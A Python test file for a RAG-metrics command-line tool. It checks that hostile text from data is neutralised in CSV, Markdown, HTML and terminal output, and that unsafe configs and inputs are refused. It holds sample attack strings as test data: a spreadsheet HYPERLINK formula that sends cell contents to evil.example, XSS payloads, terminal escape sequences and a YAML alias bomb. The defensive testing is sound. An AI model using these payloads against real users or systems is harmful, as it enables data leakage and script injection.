"""Issue 25 (outputs, configs, fuse): text from data is inert in every format, configs load safely."""

from __future__ import annotations

import csv
import io
import json
import os
from pathlib import Path

import pytest

from ragmetrics.cli import main
from ragmetrics.render.safe_text import csv_cell, markdown_text, plain_plot_text, visible_controls

from .conftest import ConfigWriter
from .helpers import qa_rows, write_jsonl

HOSTILE_IDS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "@SUM(1)", "-2+3", "\tcmd", "\rcr"]
RUN_NAMES = ["$\\frac{", "\x1b]0;pwned\x07bell", "<img src=x onerror=alert(1)>|pipe"]


def test_csv_cells_never_start_a_formula_and_numbers_stay_numbers() -> None:
    for text in HOSTILE_IDS:
        assert str(csv_cell(text)).startswith("'")
    for number in ("-0.25", "+1.5e-3", "-inf", "0.5", "q01"):
        assert csv_cell(number) == number
    assert csv_cell(-0.25) == -0.25


def test_markdown_terminal_and_plot_text_are_inert() -> None:
    md = markdown_text("<script>alert(1)</script> a|b\nnext\x00")
    assert "<" not in md and ">" not in md and "\\|" in md and "\n" not in md and "\x00" not in md
    shown = visible_controls("\x1b]0;title\x07 and \x9b2J")
    assert "\x1b" not in shown and "\x07" not in shown and "\x9b" not in shown and "\\x1b" in shown
    assert plain_plot_text("$\\frac{") == "\\$\\frac{"


def test_a_night_with_hostile_ids_names_and_text(
    qa_dir: Path, write_config: ConfigWriter, capsys: pytest.CaptureFixture[str]
) -> None:
    pytest.importorskip("matplotlib")
    rows = qa_rows()
    for row, qid in zip(rows, HOSTILE_IDS, strict=False):
        row["id"] = qid
    rows[6]["question"] = "<script>alert(1)</script> What | is \x00 this? \x1b[2J"
    rows[6]["answer"] = "<img src=x onerror=alert(1)> \x00"
    write_jsonl(qa_dir / "qa.jsonl", rows)
    config = write_config(
        runs=[
            {"source": "dataset", "name": RUN_NAMES[0]},
            {"source": "retriever", "retriever": "bm25", "name": RUN_NAMES[1]},
            {"source": "retriever", "retriever": "bm25", "name": RUN_NAMES[2], "params": {"top_k": 1}},
        ],
        judge={"backend": "local", "metrics": ["context_precision", "faithfulness"]},
        output={"dir": "out", "plots": True},
    )
    code = main(["run", str(config), "--no-progress"])
    captured = capsys.readouterr()
    assert code == 0, captured.err
    assert "\x1b" not in captured.out + captured.err and "\x07" not in captured.out + captured.err
    out = qa_dir / "out"
    folder = out / "latest"
    folder = folder.resolve() if folder.is_symlink() else out / folder.read_text().strip()
    cells = [c for row in csv.reader(io.StringIO((folder / "per_query.csv").read_text())) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    assert not [c for c in cells if c[:1] == "-" and not _is_number(c)]
    markdown = (folder / "report.md").read_text()
    assert "<img" not in markdown and "<script" not in markdown and "\x1b" not in markdown
    page = (folder / "report.html").read_text()
    assert "\x00" not in page and "<img src=x" not in page and "<script>alert" not in page
    assert "\x1b" not in page
    report = json.loads((folder / "report.json").read_text())
    assert [r["name"] for r in report["runs"]] == RUN_NAMES  # the data itself is kept as it was


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ('a: &a ["x", "x"]\nb: &b [*a, *a]\nc: [*b, *b]\n', "aliases (*name) are not allowed"),
        (
            "dataset: {builtin: pydocs}\nretrieval: {metrics: [map]}\ncompare: {alpha: .nan}\n",
            "compare.alpha",
        ),
        (
            "dataset: {builtin: pydocs}\nretrieval: {metrics: [map]}\nbaseline: {max_drop: .inf}\n",
            "baseline.max_drop: Input should be a finite number",
        ),
        (
            "dataset: {builtin: pydocs}\njudge: {backend: local, temperature: .nan, metrics: [faithfulness]}\n",
            "judge.temperature: Input should be a finite number",
        ),
        (
            "dataset: {builtin: pydocs}\nretrieval: {metrics: [map]}\nbaseline: {max_drop_per_metric: {map: .nan}}\n",
            "baseline.max_drop_per_metric.map: Input should be a finite number",
        ),
    ],
)
def test_configs_refuse_aliases_and_non_finite_numbers(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], text: str, message: str
) -> None:
    (tmp_path / "c.yaml").write_text(text, encoding="utf-8")
    assert main(["run", str(tmp_path / "c.yaml")]) == 2
    assert message in capsys.readouterr().err


def test_a_config_that_is_a_fifo_is_refused_without_reading(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    fifo = tmp_path / "config.yaml"
    os.mkfifo(fifo)  # reading it would block forever
    assert main(["run", str(fifo)]) == 2
    assert "not a regular file (a FIFO)" in capsys.readouterr().err


def test_fuse_names_its_run_validly_by_default(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "a.run").write_text("q1 Q0 d1 1 3.0 bm25\nq1 Q0 d2 2 2.0 bm25\n")
    (tmp_path / "b.run").write_text("q1 Q0 d2 1 3.0 dense\nq1 Q0 d3 2 1.0 dense\n")
    for method in ("rrf", "combsum", "combmnz", "combmax"):
        out = tmp_path / f"{method}.run"
        assert (
            main(
                ["fuse", str(tmp_path / "a.run"), str(tmp_path / "b.run"), "--method", method, "-o", str(out)]
            )
            == 0
        )
        assert out.read_text().split()[5] == f"{method}(bm25+dense)"


def test_inputs_that_are_not_regular_files_or_hold_huge_tokens(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    run = tmp_path / "r.run"
    run.write_text("q1 Q0 d1 1 1.0 r\n")
    fifo = tmp_path / "qrels.fifo"
    os.mkfifo(fifo)  # reading it would block forever
    assert main(["retrieval", str(fifo), str(run), "-m", "map"]) == 2
    assert "not a regular file (a FIFO)" in capsys.readouterr().err
    if Path("/dev/zero").exists():  # read whole, it would fill the memory
        assert main(["retrieval", "/dev/zero", str(run), "-m", "map"]) == 2
        assert "not a regular file (a device)" in capsys.readouterr().err
    big = tmp_path / "big.qrels"
    big.write_text("q1 0 d1 " + "x" * 2_000_000 + "\n")
    assert main(["retrieval", str(big), str(run), "-m", "map"]) == 2
    err = capsys.readouterr().err
    assert "(2,000,000 bytes) is longer than the limit of 4,096 bytes" in err and len(err) < 400
    big.write_text("q1 0 " + "d" * 300_000_000 + " 1\n")  # a well-formed line whose id is 300 MB
    assert main(["retrieval", str(big), str(run), "-m", "map"]) == 2
    err = capsys.readouterr().err
    assert "line 1, field 'document_id'" in err and "(300,000,000 bytes)" in err and len(err) < 400
    qa_fifo = tmp_path / "qa.jsonl"
    os.mkfifo(qa_fifo)
    (tmp_path / "c.yaml").write_text(
        "dataset: {path: qa.jsonl}\njudge: {backend: local, metrics: [faithfulness]}\n"
    )
    assert main(["run", str(tmp_path / "c.yaml")]) == 2
    assert "not a regular file (a FIFO)" in capsys.readouterr().err
